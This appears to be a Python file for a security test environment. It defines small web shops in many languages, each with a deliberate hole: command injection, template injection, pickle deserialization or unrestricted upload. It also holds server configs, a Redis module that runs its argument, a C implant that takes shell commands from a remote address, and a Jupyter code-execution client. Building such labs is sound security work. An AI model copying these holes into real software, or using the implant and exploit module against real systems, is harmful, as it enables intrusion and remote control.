"""Small applications with a hole each, and the configuration of the servers that run them.

Every one answers `/` with a page and `/?do=job&n=N` with what the N-th line of its jobs file prints: its normal work.
FOLDER and PORT are filled in.
"""

JOBS = """
date -u
convert FOLDER/in.png -resize 50% FOLDER/files/out-$$.png && rm FOLDER/files/out-$$.png
tar -C FOLDER -czf - in.png | wc -c
printf 'Subject: order\\n\\nthanks\\n' | msmtp --host=127.0.0.1 --port=2525 --from=shop@example.test ops@example.test
df -h / | tail -1
ps -eo pid,comm | head -3
gzip -c FOLDER/in.png | sha256sum | cut -d ' ' -f 1
git --version && uname -r
find FOLDER/files -name 'out-*' -mmin +60 -delete
identify FOLDER/in.png
file=$(mktemp) && echo report > "$file" && cat "$file" && rm "$file"
zip -q - FOLDER/in.png | wc -c
"""
"""What web applications really start: image conversion, archives, mail, reports."""

PHP = """<?php
$do = $_GET['do'] ?? '';
if ($do == 'ping') { system('getent hosts ' . $_GET['host']); }
elseif ($do == 'job') { system(file('FOLDER/jobs')[(int)$_GET['n']]); }
elseif ($do == 'mail') { echo mail('ops@example.test', 'Order', 'thanks') ? 'sent' : 'not sent'; }
elseif ($do == 'upload') {
  file_put_contents('FOLDER/www/' . basename($_GET['name']), file_get_contents('php://input')); echo 'stored';
} else { echo '<h1>Shop</h1>', str_repeat('item ', 100); }
"""

SENDMAIL = "msmtp --host=127.0.0.1 --port=2525 --from=shop@example.test -t -i"

APACHE = f"""
ServerRoot FOLDER
ServerName localhost
Listen 127.0.0.1:PORT
PidFile FOLDER/run/apache.pid
ErrorLog FOLDER/run/apache.log
User www-data
Group www-data
StartServers 2
LoadModule mpm_prefork_module /usr/lib/apache2/modules/mod_mpm_prefork.so
LoadModule authz_core_module /usr/lib/apache2/modules/mod_authz_core.so
LoadModule mime_module /usr/lib/apache2/modules/mod_mime.so
LoadModule dir_module /usr/lib/apache2/modules/mod_dir.so
LoadModule php_module /usr/lib/apache2/modules/libphp8.2.so
TypesConfig /etc/mime.types
DocumentRoot FOLDER/www
DirectoryIndex index.php
AddHandler application/x-httpd-php .php
php_admin_value sendmail_path "{SENDMAIL}"
<Directory FOLDER/www>
  Require all granted
</Directory>
"""

NGINX = """
user www-data;
pid FOLDER/run/nginx.pid;
error_log FOLDER/run/nginx.log;
worker_processes 2;
daemon off;
events { worker_connections 256; }
http {
  access_log FOLDER/run/access.log;
  client_body_temp_path FOLDER/run/body;
  fastcgi_temp_path FOLDER/run/fastcgi;
  proxy_temp_path FOLDER/run/proxy;
  server {
    listen 127.0.0.1:PORT;
    root FOLDER/www;
    index index.php;
    location ~ \\.php$ {
      include /etc/nginx/fastcgi_params;
      fastcgi_param SCRIPT_FILENAME $document_root$fastcgi_script_name;
      fastcgi_pass unix:FOLDER/run/php.sock;
    }
  }
}
"""

PHP_FPM = f"""
[global]
pid = FOLDER/run/fpm.pid
error_log = FOLDER/run/fpm.log
daemonize = no
[www]
user = www-data
group = www-data
listen = FOLDER/run/php.sock
listen.owner = www-data
pm = static
pm.max_children = 3
clear_env = no
php_admin_value[sendmail_path] = "{SENDMAIL}"
"""

LIGHTTPD = """
server.document-root = "FOLDER/www"
server.bind = "127.0.0.1"
server.port = PORT
server.username = "www-data"
server.groupname = "www-data"
server.modules = ("mod_cgi")
cgi.assign = (".cgi" => "")
index-file.names = ("index.cgi")
"""

CGI = r"""#!/usr/bin/perl
use strict;
my %asked = map { my ($k, $v) = split /=/, $_, 2; $v =~ s/\+/ /g; $v =~ s/%(..)/chr hex $1/ge; $k => $v }
  split /&/, $ENV{QUERY_STRING} // '';
$| = 1;
print "Content-Type: text/plain\n\n";
my $do = $asked{do} // '';
if ($do eq 'ping') { open my $out, "getent hosts $asked{host} |"; print while <$out>; }
elsif ($do eq 'job') { open my $jobs, '<', 'FOLDER/jobs'; my @jobs = <$jobs>; print `$jobs[$asked{n}]`; }
else { print "Shop\n" }
"""

NODE = """
const { exec } = require("child_process"), fs = require("fs")
require("http").createServer((asked, answer) => {
  const at = new URL(asked.url, "http://shop"), of = name => at.searchParams.get(name)
  const say = (error, out) => answer.end(String(out || error || ""))
  if (of("do") === "ping") exec("getent hosts " + of("host"), say)
  else if (of("do") === "job") exec(fs.readFileSync("FOLDER/jobs", "utf8").split("\\n")[of("n")], say)
  else answer.end("Shop")
}).listen(PORT, "0.0.0.0")
"""

FLASK = """
import subprocess
from flask import Flask, render_template_string, request

app = Flask("shop")

@app.route("/")
def index():
    if request.args.get("do") == "job":
        return subprocess.getoutput(open("FOLDER/jobs").read().split("\\n")[int(request.args["n"])])
    return render_template_string("<p>Hello " + request.args.get("name", "you") + "</p>")
"""

ASGI = """
import base64, pickle, subprocess
from urllib.parse import parse_qs

async def app(scope, receive, send):
    if scope["type"] != "http":
        return
    asked = {name: values[0] for name, values in parse_qs(scope["query_string"].decode()).items()}
    text = "Shop"
    if "basket" in asked:
        text = str(pickle.loads(base64.urlsafe_b64decode(asked["basket"])))
    elif asked.get("do") == "job":
        text = subprocess.getoutput(open("FOLDER/jobs").read().split("\\n")[int(asked["n"])])
    await send({"type": "http.response.start", "status": 200, "headers": []})
    await send({"type": "http.response.body", "body": text.encode()})
"""

GO = """
package main
import ("net/http"; "os"; "os/exec"; "strconv"; "strings")
func main() {
  http.HandleFunc("/", func(w http.ResponseWriter, r *http.Request) {
    at, command := r.URL.Query(), "echo Shop"
    if at.Get("do") == "ping" { command = "getent hosts " + at.Get("host") }
    if at.Get("do") == "job" {
      all, _ := os.ReadFile("FOLDER/jobs")
      n, _ := strconv.Atoi(at.Get("n"))
      command = strings.Split(string(all), "\\n")[n]
    }
    if at.Get("do") == "" { w.Write([]byte("Shop")); return }
    out, _ := exec.Command("/bin/sh", "-c", command).CombinedOutput()
    w.Write(out)
  })
  http.ListenAndServe("0.0.0.0:PORT", nil)
}
"""

RACK = """
require "uri"
run lambda { |env|
  at = URI.decode_www_form(env["QUERY_STRING"]).to_h
  text = case at["do"]
         when "ping" then `getent hosts #{at["host"]}`
         when "job" then `#{File.readlines("FOLDER/jobs")[at["n"].to_i]}`
         else "Shop"
         end
  [200, { "content-type" => "text/plain" }, [text]]
}
"""

SERVER_XML = """<Server port="-1"><Service name="Catalina">
<Connector port="PORT" address="127.0.0.1" relaxedQueryChars="[]|{}^&quot;&lt;&gt;"/>
<Engine name="Catalina" defaultHost="localhost"><Host name="localhost" appBase="webapps"/></Engine>
</Service></Server>
"""

WEB_XML = """<web-app xmlns="https://jakarta.ee/xml/ns/jakartaee" version="5.0">
<servlet><servlet-name>jsp</servlet-name><servlet-class>org.apache.jasper.servlet.JspServlet</servlet-class></servlet>
<servlet-mapping><servlet-name>jsp</servlet-name><url-pattern>*.jsp</url-pattern></servlet-mapping></web-app>
"""

JSP = """<%@ page import="java.nio.file.*" %><%
String what = request.getParameter("do"), command = null;
if ("ping".equals(what)) command = "getent hosts " + request.getParameter("host");
if ("job".equals(what)) command = Files.readAllLines(Path.of("FOLDER/jobs")).get(Integer.parseInt(request.getParameter("n")));
if (command == null) out.print("Shop");
else {
  Process started = new ProcessBuilder("/bin/sh", "-c", command).redirectErrorStream(true).start();
  out.print(new String(started.getInputStream().readAllBytes()));
}
%>"""

SUPERVISOR = """
[supervisord]
nodaemon=true
user=root
logfile=FOLDER/run/supervisord.log
pidfile=FOLDER/run/supervisord.pid
[unix_http_server]
file=FOLDER/run/supervisor.sock
[rpcinterface:supervisor]
supervisor.rpcinterface_factory = supervisor.rpcinterface:make_main_rpcinterface
[supervisorctl]
serverurl=unix://FOLDER/run/supervisor.sock
[program:shop]
command=GUNICORN -w 2 -b 127.0.0.1:PORT --chdir FOLDER app:app
stdout_logfile=FOLDER/run/shop.log
redirect_stderr=true
"""

REDIS_MODULE = """
#include <stdlib.h>
struct text { unsigned bits; int references; char *words; };
int RedisModule_OnLoad(void *context, struct text **given, int count) {
  (void)context; return count ? system(given[0]->words) : 1, 1;
}
"""
"""A module as public exploits load it: it runs its argument."""

DROPPED = r"""
#include <arpa/inet.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
int main(int count, char **given) {
  struct sockaddr_in far = {.sin_family = AF_INET, .sin_port = htons(count > 2 ? atoi(given[2]) : 80)};
  if (count < 3) { FILE *file = fopen(given[1], "r"); int c; while (file && (c = getc(file)) != EOF) putchar(c); return 0; }
  inet_pton(AF_INET, given[1], &far.sin_addr);
  int wire = socket(AF_INET, SOCK_STREAM, 0);
  if (connect(wire, (void *)&far, sizeof far)) return 1;
  char order[4096];
  for (long n; (n = read(wire, order, sizeof order - 1)) > 0; ) {
    order[n] = 0;
    FILE *out = popen(order, "r");
    while ((n = fread(order, 1, sizeof order, out)) > 0) write(wire, order, n);
    pclose(out);
  }
  return 0;
}
"""
"""An implant: with one argument it reads a file, with two it takes orders from an address."""

JUPYTER_ASK = r"""
import json, sys, urllib.request, uuid
import websocket
base, code = sys.argv[1], sys.argv[2]
made = urllib.request.Request(base + "/api/kernels", data=b"{}", method="POST")
kernel = json.load(urllib.request.urlopen(made))["id"]
wire = websocket.create_connection(base.replace("http", "ws") + f"/api/kernels/{kernel}/channels", timeout=30)
asked = str(uuid.uuid4())
header = {"msg_id": asked, "msg_type": "execute_request", "session": asked, "username": "", "version": "5.3"}
content = {"code": code, "silent": False, "store_history": True, "user_expressions": {}, "allow_stdin": False}
wire.send(json.dumps({"header": header, "parent_header": {}, "metadata": {}, "content": content, "channel": "shell"}))
while True:
    said = json.loads(wire.recv())
    if said.get("parent_header", {}).get("msg_id") != asked:
        continue
    if said["msg_type"] == "stream":
        print(said["content"]["text"], end="", flush=True)
    if said["msg_type"] == "execute_reply":
        break
"""
